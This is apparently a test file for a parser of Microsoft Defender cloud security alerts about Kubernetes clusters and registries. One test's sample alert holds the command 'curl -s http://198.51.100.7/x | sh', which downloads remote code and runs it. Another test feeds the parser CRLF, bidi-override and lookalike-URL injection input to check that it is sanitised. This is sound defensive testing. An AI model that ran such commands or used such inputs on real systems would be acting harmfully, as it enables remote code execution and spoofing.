import { describe, expect, it } from "vitest";
import { readDefenderEvents } from "../../../shared/events/defender-events.ts";
import { cluster, fixture, now, registry, subscription } from "./fixture.ts";

const read = (name: string) => readDefenderEvents(fixture(`defender/${name}.json`), now);
const look = (subject: string, kind: "cluster" | "registry" | "subscription") => ({
  subject,
  kind,
  delayMinutes: 0,
  by: null,
});

describe("alerts", () => {
  it("reads a cluster's alert with its own steps, and marks the cluster", () => {
    const { alerts, marks, ignored, poison } = read("alert-cluster");
    expect({ marks, ignored, poison }).toEqual({
      marks: [look(cluster, "cluster")],
      ignored: [],
      poison: [],
    });
    expect(alerts).toEqual([
      {
        id: "0e4b7f3a-55d1-4c0e-9a51-7d9a0c1f2b36",
        type: "K8S_ExposedDashboard",
        title: "Exposed Kubernetes dashboard detected",
        description: expect.stringContaining("to the internet.\nWhoever reaches it"),
        severity: "High",
        resource: cluster,
        subject: cluster,
        layer: "audit-log",
        startedAt: "2026-11-23T08:05:11.441Z",
        seenAt: "2026-11-23T08:21:40.208Z",
        remediation: [
          "Find the service: kubectl get service -n kubernetes-dashboard dashboard-lb",
          "Change its type to ClusterIP, and reach the dashboard through kubectl proxy.",
        ],
        link: expect.stringMatching(/^https:\/\/portal\.azure\.com\/#blade/),
        test: false,
        status: "active",
        about: ["namespace kubernetes-dashboard", "service dashboard-lb"],
      },
    ]);
  });

  it("marks a node's scale set as a cluster's, for the run to find out which", () => {
    const { alerts, marks } = read("alert-scale-set");
    const scaleSet = `${subscription}/resourcegroups/mc_rg-shop_aks-shop-prod_westeurope/providers/microsoft.compute/virtualmachinescalesets/aks-system-31245678-vmss`;
    expect(marks).toEqual([look(scaleSet, "cluster")]);
    expect(alerts[0]).toMatchObject({
      resource: scaleSet,
      subject: scaleSet,
      layer: "node",
      about: [
        "node aks-system-31245678-vmss000002",
        "command sh -c 'curl -s http://198.51.100.7/x | sh'",
      ],
    });
  });

  it("finds the cluster among the entities when the identifiers name only a subscription", () => {
    const { alerts, marks } = read("alert-runtime-names-subscription");
    expect(marks).toEqual([look(cluster, "cluster")]);
    expect(alerts[0]).toMatchObject({ subject: cluster, layer: "node", severity: "Informational" });
    expect(alerts[0]?.about).toContain("pod log-tail-x2x9p");
  });

  it("knows a simulated alert as a test, however tangled its entities are", () => {
    const { alerts, marks, poison } = read("alert-test-with-tangled-entities");
    expect(poison).toEqual([]);
    expect(marks).toEqual([look(subscription, "subscription")]);
    expect(alerts[0]).toMatchObject({ test: true, subject: subscription });
    expect(alerts[0]?.about).toContain("pod sample-pod");
  });

  it("gives a registry's alert to the registry, and reads steps that come as JSON text", () => {
    const { alerts, marks } = read("alert-registry");
    expect(marks).toEqual([look(registry, "registry")]);
    expect(alerts[0]).toMatchObject({
      resource: registry,
      subject: registry,
      layer: "registry",
      remediation: ["Rotate the token that was used.", "Restrict the registry to your networks."],
    });
  });

  it("leaves alerts about what holds no containers", () => {
    expect(read("alert-storage-account")).toMatchObject({
      alerts: [],
      marks: [],
      ignored: [{ why: "alert about microsoft.storage/storageaccounts" }],
    });
  });

  it("reads the nested form, with its status and a link without a scheme", () => {
    expect(read("alert-nested").alerts[0]).toMatchObject({
      id: "2518298467986649999_19c7f7d5-0d5b-4a4c-b8a7-1b1b0d0f4a51",
      status: "resolved",
      link: "https://portal.azure.com/#blade/Microsoft_Azure_Security/AlertBlade/alertId/1",
    });
  });

  it("gives an alert from inside a cluster to the subscription when nothing else is named", () => {
    const whole = fixture("defender/alert-cluster.json") as Record<string, unknown>;
    const group = `${subscription}/resourceGroups/rg-shop`;
    const alert = {
      ...whole,
      AzureResourceId: group,
      Entities: [],
      ExtendedProperties: {},
      ResourceIdentifiers: [],
    };
    expect(readDefenderEvents(alert, now).marks).toEqual([look(subscription, "subscription")]);
  });

  it("puts an alert that names no resource, or has no id, aside as it came", () => {
    const whole = fixture("defender/alert-cluster.json") as Record<string, unknown>;
    const homeless = { SystemAlertId: "1", AlertType: "K8S_ExposedDashboard" };
    const { SystemAlertId: _, ...nameless } = whole;
    expect(readDefenderEvents(homeless, now).poison).toEqual([
      { reason: expect.stringContaining("ResourceIdentifiers[].AzureResourceId"), part: homeless },
    ]);
    expect(readDefenderEvents(nameless, now).poison).toEqual([
      { reason: expect.stringContaining("SystemAlertId"), part: nameless },
    ]);
  });

  it("bounds every text and takes out what turns or breaks lines", () => {
    const whole = fixture("defender/alert-cluster.json") as Record<string, unknown>;
    const long = "x".repeat(100_000);
    const alert = {
      ...whole,
      AlertDisplayName: `Pay\u202Elod\r\nBcc: everyone@example.com\u0000${long}`,
      Description: long,
      RemediationSteps: Array.from({ length: 50 }, () => long),
      Entities: Array.from({ length: 500 }, (_, place) => ({
        Type: "K8s-pod",
        Name: `${place}\r\n${long}`,
      })),
      AlertType: long,
      SystemAlertId: long,
      AlertUri: "https://portal.azure.com.evil.example/",
      StartTimeUtc: "9999-01-01T00:00:00Z",
      ProcessingEndTime: "not a time",
      TimeGenerated: null,
    };
    const [read] = readDefenderEvents(alert, now).alerts;
    expect(read?.title).toHaveLength(200);
    expect(read?.title).toMatch(/^Paylod Bcc: everyone@example.comx/);
    expect(read?.description).toHaveLength(2_000);
    expect(read?.remediation).toHaveLength(20);
    expect(read?.remediation[0]).toHaveLength(1_000);
    expect(read?.about).toHaveLength(20);
    for (const line of read?.about ?? []) {
      expect(line.length).toBeLessThanOrEqual(120);
      expect(line).not.toMatch(/[\r\n]/);
    }
    expect(read).toMatchObject({ link: null, startedAt: now, seenAt: now });
    expect(read?.id.length).toBeLessThanOrEqual(200);
    expect(read?.type.length).toBeLessThanOrEqual(200);
  });
});

describe("findings", () => {
  it.each([
    ["assessment-cluster", look(cluster, "cluster")],
    ["assessment-cluster-deleted", look(cluster, "cluster")],
    ["assessment-subscription", look(subscription, "subscription")],
  ])("marks what %s is about", (name, mark) => {
    expect(read(name)).toEqual({ alerts: [], marks: [mark], ignored: [], poison: [] });
  });

  it.each(["sub-assessment-registry", "assessment-image", "assessment-image-secret"])(
    "marks the registry of %s for when Resource Graph shows it",
    (name) => {
      const marks = [{ ...look(registry, "registry"), delayMinutes: 5 }];
      expect(read(name)).toEqual({ alerts: [], marks, ignored: [], poison: [] });
    },
  );

  it.each(["assessment-web-app", "assessment-snapshot", "secure-score"])("leaves %s", (name) => {
    expect(read(name)).toMatchObject({ alerts: [], marks: [], poison: [] });
    expect(read(name).ignored).toHaveLength(1);
  });
});

describe("framing", () => {
  it("reads records one by one: a broken one hurts no neighbour, a subject is marked once", () => {
    const { alerts, marks, poison } = read("records");
    expect(alerts.map(({ id }) => id)).toEqual(["a-1", "a-2"]);
    expect(marks).toEqual([look(cluster, "cluster")]);
    expect(poison).toEqual([
      { reason: expect.stringContaining("neither an alert"), part: { hello: "world" } },
    ]);
  });

  it("reads one object, a list and JSON text alike", () => {
    const event = fixture("defender/alert-cluster.json");
    const once = readDefenderEvents(event, now);
    expect(readDefenderEvents([event], now)).toEqual(once);
    expect(readDefenderEvents(JSON.stringify(event), now)).toEqual(once);
    expect(readDefenderEvents(JSON.stringify([event]), now)).toEqual(once);
  });

  it.each([
    ["{", "not JSON"],
    [42, "not an object"],
    [null, "not an object"],
    [[[[[[[{}]]]]]], "nested too deeply"],
  ])("puts %j aside", (body, reason) => {
    expect(readDefenderEvents(body, now).poison).toMatchObject([{ reason }]);
  });
});
